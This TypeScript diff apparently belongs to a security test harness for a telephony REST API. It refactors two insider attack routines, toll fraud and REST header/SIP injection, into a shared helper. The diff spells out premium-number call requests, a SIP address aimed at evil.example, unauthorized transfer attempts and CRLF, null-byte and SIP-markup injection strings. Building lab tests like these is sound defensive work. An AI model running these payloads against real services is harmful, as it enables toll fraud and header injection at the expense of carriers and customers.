@@ -11,7 +11,7 @@ interface Session {
   cookie: string;
 }
 
-async function signIn({ url, insider }: Targets): Promise<Session> {
+export async function signIn({ url, insider }: Targets): Promise<Session> {
   const origin = new URL(url).origin;
   const response = await fetch(new URL('/api/v1/session', url), {
     method: 'POST',
@@ -113,71 +113,19 @@ const costly = [
   '0180123456',
 ];
 
-/** What `isIn` counts is an accepted call; what the carrier was really asked is seen by the lab itself. */
-async function tollFraud(targets: Targets): Promise<RunningAttack> {
-  const session = await signIn(targets);
+/** Asks by REST in turn, with the insider's session. What is accepted got in; what a carrier was really asked the lab sees itself. */
+async function askByRest(
+  targets: Targets,
+  ask: (count: number) => [method: string, path: string, body: unknown],
+): Promise<RunningAttack> {
+  const { headers } = await signIn(targets);
   const statuses: Record<string, number> = {};
   let [sent, answered, gotIn] = [0, 0, 0];
   const pending = new Set<Promise<unknown>>();
-  const post = async (path: string, body: unknown) => {
-    const response = await fetch(new URL(path, targets.url), {
-      method: 'POST',
-      headers: session.headers,
-      body: JSON.stringify(body),
-    });
-    answered++;
-    statuses[response.status] = (statuses[response.status] ?? 0) + 1;
-    if (response.status < 300) gotIn++;
-    await response.arrayBuffer();
-  };
   return {
     once() {
-      const number = costly[sent % costly.length]!;
-      sent++;
-      const asks: [string, unknown][] = [
-        ['/api/v1/calls', { to: { number } }],
-        ['/api/v1/calls', { to: { number: `${number};ext=1` } }],
-        ['/api/v1/calls', { to: { number: `0312345678@evil.example` } }],
-        ['/api/v1/calls', { to: { number: `184${number}` } }],
-        ['/api/v1/calls/c_nobody/commands/transfer', { number }],
-      ];
-      const [path, body] = asks[sent % asks.length]!;
-      const one = post(path, body).catch(() => undefined);
-      pending.add(one);
-      void one.finally(() => pending.delete(one));
-    },
-    async stop() {
-      await Promise.all(pending);
-      return {
-        sent,
-        answered,
-        gotIn,
-        note: Object.entries(statuses)
-          .map(([status, count]) => `${status}: ${count}`)
-          .join(', '),
-      };
-    },
-  };
-}
-
-async function restInjection(targets: Targets): Promise<RunningAttack> {
-  const session = await signIn(targets);
-  const statuses: Record<string, number> = {};
-  let [sent, answered, gotIn] = [0, 0, 0];
-  const pending = new Set<Promise<unknown>>();
-  const evil = ['\r\nX-Evil: 1', '\nX-Evil: 1', '\0', '%0d%0aX-Evil:1', '\u2028X-Evil: 1', '"><sip:evil@x>'];
-  return {
-    once() {
-      const bad = evil[sent % evil.length]!;
-      sent++;
-      const asks: [string, string, unknown][] = [
-        ['POST', '/api/v1/calls', { to: { number: `0312345678${bad}` } }],
-        ['POST', '/api/v1/calls', { to: { alias: `A-1${bad}` } }],
-        ['PUT', '/api/v1/desk/state', { state: `available${bad}` }],
-        ['POST', '/api/v1/calls/c_1/commands/digits', { digits: `1${bad}` }],
-      ];
-      const [method, path, body] = asks[sent % asks.length]!;
-      const one = fetch(new URL(path, targets.url), { method, headers: session.headers, body: JSON.stringify(body) })
+      const [method, path, body] = ask(sent++);
+      const one = fetch(new URL(path, targets.url), { method, headers, body: JSON.stringify(body) })
         .then(async (response) => {
           answered++;
           statuses[response.status] = (statuses[response.status] ?? 0) + 1;
@@ -190,17 +138,38 @@ async function restInjection(targets: Targets): Promise<RunningAttack> {
     },
     async stop() {
       await Promise.all(pending);
-      return {
-        sent,
-        answered,
-        gotIn,
-        note: Object.entries(statuses)
-          .map(([status, count]) => `${status}: ${count}`)
-          .join(', '),
-      };
+      const note = Object.entries(statuses).map(([status, count]) => `${status}: ${count}`);
+      return { sent, answered, gotIn, note: note.join(', ') };
     },
   };
 }
+
+const tollFraud = (targets: Targets): Promise<RunningAttack> =>
+  askByRest(targets, (count) => {
+    const number = costly[count % costly.length]!;
+    const asks: [string, string, unknown][] = [
+      ['POST', '/api/v1/calls', { to: { number } }],
+      ['POST', '/api/v1/calls', { to: { number: `${number};ext=1` } }],
+      ['POST', '/api/v1/calls', { to: { number: `0312345678@evil.example` } }],
+      ['POST', '/api/v1/calls', { to: { number: `184${number}` } }],
+      ['POST', '/api/v1/calls/c_nobody/commands/transfer', { number }],
+    ];
+    return asks[count % asks.length]!;
+  });
+
+const evil = ['\r\nX-Evil: 1', '\nX-Evil: 1', '\0', '%0d%0aX-Evil:1', '\u2028X-Evil: 1', '"><sip:evil@x>'];
+
+const restInjection = (targets: Targets): Promise<RunningAttack> =>
+  askByRest(targets, (count) => {
+    const bad = evil[count % evil.length]!;
+    const asks: [string, string, unknown][] = [
+      ['POST', '/api/v1/calls', { to: { number: `0312345678${bad}` } }],
+      ['POST', '/api/v1/calls', { to: { alias: `A-1${bad}` } }],
+      ['PUT', '/api/v1/desk/state', { state: `available${bad}` }],
+      ['POST', '/api/v1/calls/c_1/commands/digits', { digits: `1${bad}` }],
+    ];
+    return asks[count % asks.length]!;
+  });
 
 export const insiderAttacks: Attack[] = [
   {
